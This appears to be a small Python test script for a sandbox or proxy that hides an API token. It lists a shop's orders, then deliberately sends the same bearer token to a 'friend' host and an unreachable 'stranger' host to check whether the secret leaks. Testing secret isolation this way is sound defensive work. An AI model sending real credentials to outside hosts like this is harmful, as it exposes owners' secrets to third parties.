"""Lists a shop's orders with a token that it never gets to see, then tries to carry that token away."""
import json
import os
import sys
import urllib.error
import urllib.request

shop, friend, stranger = sys.argv[1:]
token = os.environ["SHOP_TOKEN"]
print("my token:", token)


def fetch(url):
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"})
    with urllib.request.urlopen(request) as response:
        return json.load(response)


for order in fetch(f"{shop}/orders"):
    print(f"order {order['id']}: {order['item']} for {order['price']:.2f}")
print("the shop says that I sent:", fetch(f"{shop}/whoami")["authorization"])
print("a friend says that I sent:", fetch(f"{friend}/whoami")["authorization"])
try:
    fetch(f"{stranger}/whoami")
except urllib.error.URLError as error:
    print("a stranger is out of reach:", error.reason)
